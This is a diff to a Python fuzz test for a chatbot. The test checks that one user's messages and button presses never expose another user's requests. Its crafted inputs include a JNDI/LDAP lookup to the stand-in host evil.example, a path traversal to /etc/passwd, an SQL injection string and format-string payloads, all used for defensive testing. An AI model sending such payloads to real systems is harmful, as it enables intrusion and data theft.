@@ -10,6 +10,7 @@ A's request codes.
 
 from __future__ import annotations
 
+import os
 from itertools import count
 
 import pytest
@@ -20,10 +21,13 @@ from bot.messages import Reply
 from tests.flows.helpers import AWAITING_PAYMENT_CODE, COMPLETED_CODE, LAN_ID
 
 FUZZ = settings(
-    max_examples=200,
+    max_examples=int(os.environ.get("TROLY_FUZZ_EXAMPLES", "200")),
     deadline=None,
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
-    database=None,  # reproducible: no example replayed from an earlier run
+    database=None,  # no example replayed from an earlier run
+    # Locally every run explores new inputs; CI runs the same ones each time,
+    # so a red CI is always reproducible.
+    derandomize=bool(os.environ.get("CI")),
 )
 _fresh_ids = count()
 A_PROVINCE = "79"  # Hồ Chí Minh
@@ -38,8 +42,11 @@ CRAFTED_TEXT = [
     "/revoke admin web:admin1", "/roles", "/stats", "/outreach", "/broadcast_cancel 1", "/start@evil_bot",
     "\x00\x01\x02\x1b[31m\u202e\u200b\ufeff", "\ud7ff\ue000\U0010ffff", "🧨" * 500,
     "a" * 100_000, "tra cứu " + "9" * 100_000, f"tra cứu hồ sơ {COMPLETED_CODE}",
-    f"{COMPLETED_CODE} {AWAITING_PAYMENT_CODE}", "001190004567", "4567 14/03/1990", "%s%s%n{0}{user}",
+    f"{COMPLETED_CODE} {AWAITING_PAYMENT_CODE}", "%s%s%n{0}{user}",
+    # Near misses of A's proof (A's real proof would rightly open A's requests).
+    "001190004568", "4567 15/03/1990", "4567 14/03/1991",
     "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "null", "undefined", "NaN", "-1", "99999999999",
+    "²", "¹", "٣", "１",  # a superscript, Arabic-Indic or full-width "number" for a numbered option
 ]
 PAYLOADS = [
     f"status:notify:{AWAITING_PAYMENT_CODE}", f"status:notify:{COMPLETED_CODE}", "status:retry",
@@ -47,6 +54,8 @@ PAYLOADS = [
     "menu:forget:yes", "menu:open:status", "onboarding:province:set:79", "onboarding:consent:yes",
     "cmd:forget", "cmd:admin", "intent:check_status", "fees:copies:-1", "fees:copies:999999999999",
     "guide:step:-1", "guide:step:99999", "status:notify:", ":::", "", "status:notify:' OR 1=1 --",
+    # Digits Python's isdigit() accepts but int() refuses, and other scripts' digits.
+    "guide:step:²", "guide:problems:¹", "fees:copies:³", "answers:rate:up:²", "guide:step:٣",
 ]
 
 texts = st.one_of(
@@ -118,14 +127,18 @@ def assert_nothing_of_a(replies: list[Reply], a: dict, sent: str) -> None:
 @FUZZ
 @given(batch=messages)
 async def test_anything_user_b_sends_gets_a_reply_and_nothing_of_user_a(talk, storage, user_a, batch):
-    b = talk("userB")
+    b_id = f"userB{next(_fresh_ids)}"  # a new B each example: no state left by an earlier one
+    b = talk(b_id)
+    await b.start()  # past onboarding, so the batch reaches the flows
+    await b.press("onboarding:lang:vi")
+    await b.press("onboarding:consent:yes")
     for how, value in batch:
         replies = await getattr(b, how)(value)
         assert_shows_something(replies)
         assert_nothing_of_a(replies, user_a, value)
     assert [s.user_id for s in await storage.subscribers(AWAITING_PAYMENT_CODE)] == ["userA"]
     # B's own consent choices are audited; no staff command ran for B.
-    staff_actions = [e for e in await storage.list_audit(actor="web:userB") if not e["action"].startswith("consent_")]
+    staff_actions = [e for e in await storage.list_audit(actor=f"web:{b_id}") if not e["action"].startswith("consent_")]
     assert staff_actions == []
 
 
